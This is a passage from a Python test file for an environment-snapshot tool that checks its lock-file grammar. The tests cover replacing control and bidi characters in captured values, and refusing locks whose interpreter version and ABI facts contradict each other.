    for cls, rules in lockfile.RULES.items():
        hints = typing.get_type_hints(cls)
        for f in dataclasses.fields(cls):
            tp = hints[f.name]
            leaf = typing.get_args(tp)[0] if typing.get_origin(tp) is tuple else tp
            if leaf in (str, int):
                assert f.name in rules, f"{cls.__name__}.{f.name} has no grammar"
    covered = set(lockfile.RULES)
    for cls in (
        Artifact,
        Conda,
        CondaPackage,
        Cpu,
        Gpu,
        Hardware,
        Meta,
        Platform,
        PythonEnv,
        PythonPackage,
        Source,
        System,
        SystemPackage,
    ):
        assert cls in covered


def test_a_capture_records_no_control_character_so_its_lock_loads(tmp_path: Path) -> None:
    # A variable holding a line break (XLA_FLAGS over several lines) or an ESC, and one named outside the
    # grammar, would have made a lock that every command refuses.
    from envsnap._privacy import PathRedactor
    from envsnap.probes.environment import filter_environment

    env = filter_environment(
        {"XLA_FLAGS": "--a\n--b\t--c", "TORCH_X": "\x1b[31mred", "TORCH_A-B": "1"}, PathRedactor(home="/nonexistent")
    )
    assert env == {"TORCH_X": "\N{REPLACEMENT CHARACTER}[31mred", "XLA_FLAGS": "--a --b --c"}
    snapshot = dataclasses.replace(base(), environment=env)
    assert lockfile.loads(lockfile.dumps(snapshot)).environment == env


def test_a_capture_records_known_shapes_as_shown_so_its_lock_loads() -> None:
    # An NVML error, a Requires-Dist line or a library path holding a bidi formatting character or a line
    # separator is recorded with U+FFFD there (the lock's rule for them), not refused by every later command.
    from envsnap._privacy import PathRedactor
    from envsnap.probes import cuda, nvidia, python
    from envsnap.probes.interface import RawPackage

    redact = PathRedactor(home="/nonexistent")
    nv, _ = nvidia.parse_answer({"fatal": "nvmlInit: \u202eUnknown Error\u2028x"})
    assert nv is not None and nv.error == "nvmlInit: \ufffdUnknown Error\ufffdx"
    raw = RawPackage(name="demo", version="1.0", site_dir="/s", requires_dist=("numpy ===1\u202e", "rich>=13"))
    package = python._package(raw, redact)
    assert package.requires_dist == ("numpy ===1\ufffd", "rich>=13")
    found = cuda.Found(
        component="runtime",
        version="12.1",
        source="system",
        location="/opt/\u2067cuda/libcudart.so.12",
        method="soname",
    )
    location = cuda._location(found, redact)
    assert location == "/opt/\ufffdcuda/libcudart.so.12"
    snapshot = dataclasses.replace(
        base(),
        nvidia=nv,
        python=dataclasses.replace(base().python, packages=(package,)),
        cuda=Cuda(copies=(CudaLibrary(component="runtime", version="12.1", source="system", location=location),)),
    )
    loaded = lockfile.loads(lockfile.dumps(snapshot))
    assert loaded.nvidia == nv and loaded.python.packages[0].requires_dist == package.requires_dist


def _interpreter(
    version: str, abi: str, soabi: str, implementation: str = "cpython"
) -> Callable[[dict[str, Any]], None]:
    def mutate(doc: dict[str, Any]) -> None:
        doc["python"].update(implementation=implementation, version=version, abi=abi, soabi=soabi)

    return mutate


@pytest.mark.parametrize(
    ("mutate", "needle"),
    [
        # A hand-edited version, resealed: check called it compatible, rebuild made a 3.9 venv, verify then exit 3.
        (_interpreter("3.9.18", "cp311", ""), "python.abi: 'cp311' is not the ABI of Python 3.9 (python.version"),
        (_interpreter("3.9.18", "", "cpython-311-x86_64-linux-gnu"), "python.soabi: 'cpython-311-x86_64-linux-gnu'"),
        (_interpreter("3.13.1", "cp313t", "cpython-313-x86_64-linux-gnu"), "python.soabi"),
        (_interpreter("3.11.7", "cp39", "cpython-39-x86_64-linux-gnu"), "python.abi: 'cp39'"),
        (
            _interpreter("3.9.18", "pypy310_pp73_x86_64_linux_gnu", "pypy310-pp73-x86_64-linux-gnu", "pypy"),
            "python.abi",
        ),
    ],
)
def test_a_lock_whose_interpreter_facts_contradict_each_other_is_refused(
    tmp_path: Path, cli: Callable[..., Any], mutate: Callable[[dict[str, Any]], None], needle: str
) -> None:
    path = write_lock(tmp_path / "envsnap.lock", mutate)
    for command in (["check", "--target", "venv"], ["show"], ["verify"]):
        one_line_exit_2(cli(command[0], path, *command[1:]), needle)


@pytest.mark.parametrize(
    ("version", "abi", "soabi", "implementation"),
    [
        ("3.9.18", "cp39", "cpython-39-x86_64-linux-gnu", "cpython"),
        ("3.7.17", "cp37m", "cpython-37m-x86_64-linux-gnu", "cpython"),
        ("3.13.1", "cp313t", "cpython-313t-x86_64-linux-gnu", "cpython"),
        ("3.13.1", "cp313", "cp313-win_amd64", "cpython"),
        ("3.14.0rc1", "cp314", "", "cpython"),
        ("3.10.14", "pypy310_pp73_x86_64_linux_gnu", "pypy310-pp73-x86_64-linux-gnu", "pypy"),
        ("3.11.7", "", "", "cpython"),  # an import that does not record the ABI
        ("", "cp311", "", ""),
    ],
)
def test_interpreter_facts_that_agree_load(
    tmp_path: Path, cli: Callable[..., Any], version: str, abi: str, soabi: str, implementation: str
) -> None:
    path = write_lock(tmp_path / "envsnap.lock", _interpreter(version, abi, soabi, implementation))
    result = cli("show", path)
    assert result.code == 0, result
